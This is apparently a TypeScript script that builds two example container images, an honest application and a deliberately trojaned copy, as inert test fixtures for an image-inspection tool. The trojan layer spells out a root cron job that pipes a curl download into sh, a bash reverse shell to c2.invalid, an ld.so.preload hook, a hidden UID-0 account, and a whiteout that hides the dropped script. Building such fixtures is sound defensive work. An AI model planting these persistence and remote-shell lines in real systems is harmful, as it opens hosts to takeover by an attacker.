import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { buildImage, dockerMembers } from '../src/read/testing/image-builder.ts';
import { type TarMember, tar } from '../src/read/testing/tar-builder.ts';

/*
 * Builds the two images in examples/: an honest small application, and the same after somebody had their hands on it.
 * Both are inert: text on reserved domains, nothing that runs. `--check` only says whether the files are current.
 */

const SHELL = '#!/bin/busybox sh\n# stands for a shell; an example ships no real one\n';
const APP = '#!/bin/sh\nexec /usr/local/bin/serve --port 8080\n';

const md5 = (text: string): string => createHash('md5').update(text).digest('hex');

const BASE: readonly TarMember[] = [
  { name: 'etc/' },
  {
    name: 'etc/os-release',
    data: 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
  },
  { name: 'etc/passwd', data: 'root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/usr/sbin/nologin\n' },
  { name: 'usr/bin/' },
  { name: 'usr/bin/dash', data: SHELL, mode: 0o755 },
  { name: 'bin', type: 'symlink', linkname: 'usr/bin' },
  { name: 'usr/bin/sh', type: 'symlink', linkname: 'dash' },
  {
    name: 'var/lib/dpkg/status',
    data: 'Package: dash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 0.5.12-2\nMaintainer: Example <dash@debian.example>\nDescription: shell\n',
  },
  { name: 'var/lib/dpkg/info/dash.list', data: '/.\n/usr\n/usr/bin\n/usr/bin/dash\n/usr/bin/sh\n' },
  { name: 'var/lib/dpkg/info/dash.md5sums', data: `${md5(SHELL)}  usr/bin/dash\n` },
];

const APPLICATION: readonly TarMember[] = [
  { name: 'app/' },
  { name: 'app/entrypoint.sh', data: APP, mode: 0o755 },
  { name: 'app/config.json', data: '{"port":8080}\n' },
];

const TROJAN: readonly TarMember[] = [
  { name: 'etc/ld.so.preload', data: '/usr/lib/libsystem-cache.so\n' },
  { name: 'etc/cron.d/cache', data: '*/5 * * * * root curl -fsSL http://updates.invalid/c.sh | sh\n' },
  {
    name: 'etc/passwd',
    data: 'root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/usr/sbin/nologin\nsystem:x:0:0::/:/bin/sh\n',
  },
  { name: 'usr/bin/dash', data: `${SHELL}# and this line was added\n`, mode: 0o755 },
  { name: 'var/tmp/.x/run.sh', data: '#!/bin/sh\nbash -i >& /dev/tcp/c2.invalid/4444 0>&1\n', mode: 0o755 },
];

const CLEANED: readonly TarMember[] = [{ name: 'var/tmp/.wh..x' }];

const CONFIG = {
  Entrypoint: ['/app/entrypoint.sh'],
  User: 'app',
  Env: ['PATH=/usr/local/bin:/usr/bin:/bin'],
};

function archive(tag: string, layers: readonly (readonly TarMember[])[], steps: readonly string[]): Buffer {
  const history = steps.map((step) => ({ created_by: step, created: '2026-01-01T00:00:00Z' }));
  const image = buildImage({
    layers: layers.map((members) => tar(members)),
    config: { config: CONFIG, history },
  });
  return tar(dockerMembers(image, [tag]));
}

const EXAMPLES: Readonly<Record<string, Buffer>> = {
  'honest-app.tar': archive('example/app:1.0', [BASE, APPLICATION], ['ADD rootfs.tar /', 'COPY app /app']),
  'trojaned-app.tar': archive(
    'example/app:1.1',
    [BASE, APPLICATION, TROJAN, CLEANED],
    ['ADD rootfs.tar /', 'COPY app /app', 'RUN ./tune.sh', 'RUN rm -rf /var/tmp/.x'],
  ),
};

for (const [name, bytes] of Object.entries(EXAMPLES)) {
  const file = new URL(`../examples/${name}`, import.meta.url);
  if (!process.argv.includes('--check')) writeFileSync(file, bytes);
  else if (!readFileSync(file).equals(bytes)) {
    process.stderr.write(`examples/${name} is not current: run npm run examples\n`);
    process.exitCode = 1;
  }
}
